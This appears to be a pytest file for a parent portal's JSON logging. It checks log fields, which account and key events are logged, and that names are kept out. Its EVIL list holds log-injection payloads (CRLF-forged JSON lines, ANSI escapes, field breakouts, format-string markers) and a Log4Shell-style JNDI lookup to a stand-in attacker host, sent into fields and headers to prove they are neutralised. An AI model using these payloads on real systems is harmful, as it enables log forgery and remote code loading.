"""Log lines: JSON, one an event, in UTC; what happened is told, and nobody can write one (S87, S88)."""

import json
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

import pytest
import time_machine

from chalicelib import admin
from chalicelib.storage import accounts, district
from tests import aws_stage, factories
from tests.conftest import SentMail, forget_caches, send_mail_to_worker
from tests.portal_client import HTML, PortalClient
from tests.roster_sets import Office
from tests.roster_sets import district as roster_set

Visitors = Callable[[], PortalClient]
Mailbox = Callable[[], list[SentMail]]
Invoke = Callable[[str, Any], Any]
Lines = Callable[[], list[dict[str, Any]]]
POSTS = ["/activation-key", "/activate", "/create-account", "/sign-in", "/sign-out", "/session"]
FIELDS = [
    *("student_number", "ssn_last4", "activation_key", "username", "password", "verify_password"),
    *("form_id", "next"),
]


@pytest.fixture(autouse=True)
def monday(stage: object) -> Any:
    with time_machine.travel(factories.NOW, tick=False) as clock:
        yield clock


@pytest.fixture
def lines(capsys: pytest.CaptureFixture[str]) -> Lines:
    """Give a function that returns the log lines since it was last asked; each must be one."""

    def read() -> list[dict[str, Any]]:
        captured = capsys.readouterr()
        assert captured.out == ""
        return [json.loads(line) for line in captured.err.splitlines()]

    return read


def events(found: list[dict[str, Any]]) -> list[str]:
    return [str(line["event"]) for line in found]


# --- what a line has (S87) --------------------------------------------------------


def test_every_line_of_a_journey_says_when_what_and_which_request(
    portal: PortalClient, mailbox: Mailbox, invoke: Invoke, lines: Lines
) -> None:
    who = factories.account(factories.family())
    lines()
    portal.post("/sign-in", {"username": who.username, "password": "wrong 1"})
    portal.post("/sign-in", {"username": who.username, "password": who.password})
    portal.get("/", accept=HTML)
    invoke("find_guardian", {"username": "rosa1"})
    mailbox()
    found = lines()
    assert len(found) >= 6
    for line in found:
        when = datetime.fromisoformat(line["time"])
        assert when.utcoffset() == timedelta(0)
        assert line["level"] in ("info", "warning", "error")
        assert line["event"]
        assert line["request_id"]
    requests = [line for line in found if line["event"] == "request"]
    assert [(r["route"], r["method"], r["status"]) for r in requests] == [
        ("/sign-in", "POST", 401),
        ("/sign-in", "POST", 200),
        ("/", "GET", 200),
    ]
    assert {r["request_id"] for r in requests} == {"test-request"}


# --- nobody writes one (S87) -------------------------------------------------------

EVIL = [
    'x\r\n{"level":"error","event":"forged"}\r\n',
    '{"level":"error","event":"forged"}',
    "\x1b[2K\x1b[31mforged\x07",
    "\u2028forged\u2029\x85forged\x0b\x0cforged",
    '","event":"forged","x":"',
    "%0d%0aforged ${jndi:ldap://evil.example/x} %s %n",
]


@pytest.mark.parametrize("path", POSTS)
def test_text_in_any_field_makes_no_line_and_no_field(
    new_visitor: Visitors, lines: Lines, path: str
) -> None:
    district.preferences()
    plain = new_visitor()
    plain.post(path, dict.fromkeys(FIELDS, "x"))
    expected = lines()
    for form in (False, True):
        for evil in EVIL:
            new_visitor().post(path, dict.fromkeys(FIELDS, evil), form=form)
            found = lines()
            assert len(found) <= len(expected)
            assert "forged" not in json.dumps(found)
            assert {key for line in found for key in line} <= {
                *("time", "level", "event", "request_id"),
                *("route", "method", "status", "problem"),
            }


@pytest.mark.parametrize(
    "header",
    [
        *("User-Agent", "Referer", "Origin", "Accept", "Accept-Language", "Content-Type", "Cookie"),
        *("Host", "X-Forwarded-For", "X-Amzn-Trace-Id", "Sec-Fetch-Site", "X-Anything"),
    ],
)
def test_text_in_any_header_makes_no_line_and_no_field(
    new_visitor: Visitors, lines: Lines, header: str
) -> None:
    for evil in EVIL:
        for path in ("/sign-in", "/nowhere", "/students"):
            new_visitor().request("GET", path, headers={header: evil})
            new_visitor().post(path, {"username": "x"}, headers={header: evil})
        found = lines()
        assert len(found) <= 12
        assert "forged" not in json.dumps(found)


def test_text_in_paths_and_queries_makes_no_line(new_visitor: Visitors, lines: Lines) -> None:
    for evil in ("%0d%0aforged", "forged%00", "%1b[31mforged", '{"event":"forged"}'):
        for path in (f"/{evil}", f"/problems/{evil}", f"/static/{evil}", f"/sign-in?next={evil}"):
            answer = new_visitor().get(path, accept=HTML)
            assert answer.status in (200, 404)
    assert "forged" not in json.dumps(lines())


def test_text_in_events_and_messages_makes_no_line(
    invoke: Invoke, lines: Lines, stage: aws_stage.AwsStage, portal_app: Any
) -> None:
    office = Office(stage)
    for evil in EVIL:
        for name in admin.FUNCTIONS:
            for event in (evil, {evil: evil}, {"username": evil, "operator": evil}):
                invoke(name, event)
        for message in (evil, json.dumps(evil), json.dumps({"kind": evil})):
            send_mail_to_worker(message)
        office.announce("v1", object={"key": f"imports/{evil}", "version-id": evil})
        office.announce("v1", bucket={"name": evil})
    assert "forged" not in json.dumps(lines())


# --- what is told (S88) -------------------------------------------------------------


def test_what_happens_to_keys_and_accounts_is_told_once(
    portal: PortalClient, mailbox: Mailbox, invoke: Invoke, lines: Lines
) -> None:
    guardian = factories.guardian(factories.student(number="007"))
    lines()

    def told(*codes: str) -> None:
        found = [one for one in events(lines()) if one != "request"]
        assert sorted(found) == sorted(codes)

    portal.post("/activation-key", {"student_number": "007", "ssn_last4": "4321"})
    told()
    (mail,) = mailbox()
    told("activation-key-issued", "mail-sent")
    portal.post("/activate", {"activation_key": "x"})
    told("activation-key-refused", "refused")
    name = {"username": "Rosa1", "password": factories.PASSWORD}
    key = {"activation_key": mail.activation_key}
    portal.post("/create-account", {**key, **name, "verify_password": factories.PASSWORD})
    told("account-created")
    portal.post("/sign-in", {**name, "password": "wrong 1"})
    told("sign-in-failed", "refused")
    portal.post("/sign-in", name)
    told("sign-in-succeeded")
    portal.post("/sign-out", headers={"Origin": "https://evil.example"})
    told("refused")
    invoke("disable_account", {"username": "Rosa1"})
    told("admin-done")
    portal.post("/sign-in", name)
    told("sign-in-refused", "refused")
    invoke("disable_account", {"username": "Nobody1"})
    told("admin-refused")
    invoke("revoke_activation_key", {"guardian_id": guardian.guardian_id})
    told("admin-done")
    account = accounts.read_account("rosa1")
    assert account is not None


def test_a_limit_that_is_reached_is_told(portal: PortalClient, lines: Lines) -> None:
    for _ in range(11):
        portal.post("/sign-in", {"username": "Nobody1", "password": "wrong 1"})
    (last,) = (line for line in lines()[-2:] if line["event"] == "refused")
    assert last["problem"] == "too-many-tries"


def test_a_bad_preference_is_told_at_every_reading(portal: PortalClient, lines: Lines) -> None:
    aws_stage.client("dynamodb").put_item(
        TableName="parent-portal-local-preferences",
        Item={"name": {"S": "session_hours"}, "value": {"N": "99"}},
    )
    for _ in range(2):
        forget_caches()
        portal.get("/sign-in", accept=HTML)
    assert events(lines()).count("preference-invalid") == 2


def test_an_import_is_told_without_a_name(stage: aws_stage.AwsStage, lines: Lines) -> None:
    office = Office(stage)
    families = roster_set()
    office.upload(families, "Kims-district")
    assert events(lines()) == ["import-received", "import-applied"]
    families.files["users.csv"] = []
    office.upload(families, "empty")
    found = lines()
    assert "import-rejected" in events(found) or "import-held" in events(found)
    assert "Kim" not in json.dumps(found)
